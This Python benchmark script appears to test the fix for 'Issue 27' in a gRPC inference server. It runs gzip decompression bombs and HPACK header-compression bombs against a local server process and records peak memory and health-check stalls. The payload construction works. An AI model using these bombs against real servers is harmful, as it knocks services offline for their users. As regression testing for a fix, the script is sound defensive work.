"""Issue 27 attacks, measured (peak RSS, stalls) against a real `fastoip serve` (native gRPC frontend).

    PYTHONPATH=src python benchmarks/issue27_attacks.py gzip-unary   # 4 x 128 MiB gzip messages on one unary call
    PYTHONPATH=src python benchmarks/issue27_attacks.py hpack        # 4 connections x 3 HPACK-bomb HEADERS frames
    PYTHONPATH=src python benchmarks/issue27_attacks.py grpc-stall   # 4 x 192 MiB gzip bombs; other clients' stall

Run it once with the code before a fix on PYTHONPATH and once after; it prints one line per run.
"""

from __future__ import annotations

import gzip
import socket
import struct
import sys
import tempfile
import threading
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "tests"))

import hpack  # noqa: E402
from hyperframe.frame import HeadersFrame, SettingsFrame  # noqa: E402

from fastoip.demo import write_repository  # noqa: E402
from h2raw import MODEL_INFER, RawGrpcConnection  # noqa: E402
from serverproc import ServerProcess  # noqa: E402


def rss(pid: int) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) * 1024
    return 0


class Peak:
    def __init__(self, pid: int) -> None:
        self.pid, self.peak, self.stop = pid, 0, threading.Event()
        self.thread = threading.Thread(target=self.run, daemon=True)

    def run(self) -> None:
        while not self.stop.is_set():
            self.peak = max(self.peak, rss(self.pid))
            time.sleep(0.002)


def gzip_unary(proc: ServerProcess) -> str:
    bomb = gzip.compress(b"\0" * (128 << 20), 9)
    framed = struct.pack(">BI", 1, len(bomb)) + bomb
    with RawGrpcConnection(proc.grpc_port) as conn:
        conn.handshake()
        stream_id = conn.start_call(MODEL_INFER, extra=(("grpc-encoding", "gzip"),))
        for _ in range(4):
            if conn.results[stream_id].finished:
                break
            conn.send_data(stream_id, framed, end_stream=False)
            conn.drain(0.5)
        result = conn.results[stream_id]
        return f"status {result.status} {result.message[:60]!r}; {len(bomb)} bytes a message on the wire"


def hpack_bomb(proc: ServerProcess) -> str:
    socks = []
    for _ in range(4):
        sock = socket.create_connection(("127.0.0.1", proc.grpc_port), timeout=5)
        sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SettingsFrame(0).serialize())
        encoder = hpack.Encoder()
        for stream_id in (1, 3, 5):
            block = encoder.encode([(":method", "POST"), (":scheme", "http"), (":path", MODEL_INFER),
                                    (":authority", "x"), ("content-type", "application/grpc"),
                                    ("te", "trailers"), ("x-big", "a" * 4000)]) + b"\xbe" * 12_000
            sock.sendall(HeadersFrame(stream_id, data=block, flags=["END_HEADERS", "END_STREAM"]).serialize())
        socks.append(sock)
    time.sleep(2)
    for sock in socks:
        sock.close()
    return "12 HEADERS frames of 16 KB, each ~48 MB decoded"


STALL_LIMIT = 192 * 1024 * 1024


def grpc_stall(proc: ServerProcess) -> str:
    bomb = gzip.compress(b"\0" * (STALL_LIMIT - 1024), 1)
    framed = struct.pack(">BI", 1, len(bomb)) + bomb
    stalls: list[float] = []
    stop = threading.Event()

    def probe() -> None:
        with RawGrpcConnection(proc.grpc_port) as other:
            other.handshake()
            while not stop.is_set():
                began = time.monotonic()
                other.unary("/grpc.health.v1.Health/Check", b"", wait_s=60)
                stalls.append(time.monotonic() - began)
                time.sleep(0.005)

    prober = threading.Thread(target=probe, daemon=True)
    prober.start()
    time.sleep(0.3)
    began = time.monotonic()
    conns = [RawGrpcConnection(proc.grpc_port).handshake() for _ in range(4)]
    streams = []
    for conn in conns:
        stream_id = conn.start_call(MODEL_INFER, extra=(("grpc-encoding", "gzip"),))
        conn.send_data(stream_id, framed)
        streams.append(stream_id)
    for conn, stream_id in zip(conns, streams, strict=True):
        conn.wait(stream_id, 120)
        conn.close()
    took = time.monotonic() - began
    stop.set()
    prober.join(60)
    return f"4 bombs inflated in {took:.2f} s; longest health-check stall {max(stalls):.3f} s ({len(stalls)} probes)"


def main() -> None:
    attack = {"gzip-unary": gzip_unary, "hpack": hpack_bomb, "grpc-stall": grpc_stall}[sys.argv[1]]
    extra = ["--grpc-max-message-size", str(STALL_LIMIT)] if sys.argv[1] == "grpc-stall" else []
    repo = write_repository(Path(tempfile.mkdtemp()))
    with ServerProcess(repo, *extra, grpc_frontend="native") as proc:
        assert proc.proc is not None
        time.sleep(0.5)
        before = rss(proc.proc.pid)
        peak = Peak(proc.proc.pid)
        peak.thread.start()
        what = attack(proc)
        time.sleep(0.5)
        peak.stop.set()
        after = rss(proc.proc.pid)
        print(f"{sys.argv[1]}: RSS {before >> 20} MiB before, peak {peak.peak >> 20} MiB, "
              f"{after >> 20} MiB after ({what})")


if __name__ == "__main__":
    main()
